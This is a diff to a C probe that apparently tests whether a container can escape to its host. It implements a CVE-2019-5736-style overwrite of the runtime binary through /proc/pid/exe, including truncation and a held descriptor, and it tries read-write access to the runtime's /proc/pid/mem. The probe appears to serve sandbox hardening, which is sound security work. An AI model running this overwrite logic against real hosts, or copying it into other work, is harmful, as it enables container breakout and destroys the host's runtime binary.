@@ -8,12 +8,10 @@
 #include <stdlib.h>
 #include <string.h>
 #include <sys/prctl.h>
-#include <sys/ptrace.h>
 #include <sys/stat.h>
 #include <sys/syscall.h>
 #include <sys/sysmacros.h>
 #include <sys/vfs.h>
-#include <sys/wait.h>
 #include <time.h>
 #include <unistd.h>
 
@@ -58,13 +56,14 @@ static int key(const char* name) {
 }
 
 // CVE-2019-5736: for writing at once, and through a descriptor that outlives the process.
-static void overwrite(const char* path, const char* label) {
+static int overwrite(const char* path, const char* label) {
   char again[64];
   int direct = open(path, O_WRONLY);
+  if (direct < 0 && errno == ENOENT) return 0;
   printf("%s open %s\n", label, direct < 0 ? name_of(errno) : "done");
   if (direct >= 0) printf("%s write %s\n", label, write(direct, "#!", 2) < 0 ? name_of(errno) : "done");
   int held = open(path, O_RDONLY);
-  if (held < 0) return;
+  if (held < 0) return 0;
   printf("%s truncate %s\n", label, name_of(truncate(path, 0) ? errno : 0));
   snprintf(again, sizeof again, "/proc/self/fd/%d", held);
   for (double end = now() + 0.5; now() < end;) {
@@ -76,6 +75,7 @@ static void overwrite(const char* path, const char* label) {
     break;
   }
   close(held);
+  return 1;
 }
 
 static int exchange(const char* one, const char* other, double seconds) {
@@ -120,7 +120,7 @@ static void look(const char* pid) {
   if (readlink(path, link, sizeof link - 1) < 0 || strncmp(link, "/memfd:", 7) != 0) return;
   say("exe", "is the runtime");
   static int tried;
-  if (tried++ < 3) overwrite(path, "exe");
+  if (tried < 3) tried += overwrite(path, "exe");
   snprintf(path, sizeof path, "/proc/%s/root", pid);
   judge(path, "root");
   snprintf(path, sizeof path, "/proc/%s/cwd", pid);
@@ -131,18 +131,29 @@ static void look(const char* pid) {
   }
 }
 
-static void attach(const char* pid) {
+static int is_runtime(const char* pid) {
   char path[300], comm[32] = "";
   snprintf(path, sizeof path, "/proc/%s/comm", pid);
   int fd = open(path, O_RDONLY);
   ssize_t size = fd < 0 ? 0 : read(fd, comm, sizeof comm - 1);
   if (fd >= 0) close(fd);
-  if (size <= 0 || strcmp(comm, "stack-shim\n") != 0) return;
+  return size > 0 && strcmp(comm, "stack-shim\n") == 0;
+}
+
+// Its memory is that of before its exec where it is still the runtime afterwards. Attaching asks for the same right.
+static void attach(const char* pid) {
+  char path[300];
+  if (!is_runtime(pid)) return;
   say("seen", "the runtime");
   snprintf(path, sizeof path, "/proc/%s/mem", pid);
-  fd = open(path, O_RDWR);
-  if (fd >= 0) say("mem", "opened"), close(fd);
-  if (ptrace(PTRACE_SEIZE, atoi(pid), 0, 0) == 0) say("ptrace", "attached");
+  int fd = open(path, O_RDWR);
+  if (fd >= 0 && is_runtime(pid)) say("mem", "opened");
+  if (fd >= 0) close(fd);
+  for (int number = 0; number < 24; number++) {
+    char link[256];
+    snprintf(path, sizeof path, "/proc/%s/fd/%d", pid, number);
+    if (readlink(path, link, sizeof link) >= 0 && is_runtime(pid)) say("descriptor", "read");
+  }
 }
 
 // `look` or `attach` at every process but the first and this one, for some seconds.
@@ -169,6 +180,7 @@ static int device(const char* path, const char* how) {
 }
 
 int main(int argc, char** argv) {
+  setvbuf(stdout, NULL, _IOLBF, 0);
   const char* verb = argc > 1 ? argv[1] : "";
   if (!strcmp(verb, "descriptors")) return descriptors();
   if (!strcmp(verb, "bits")) return bits();
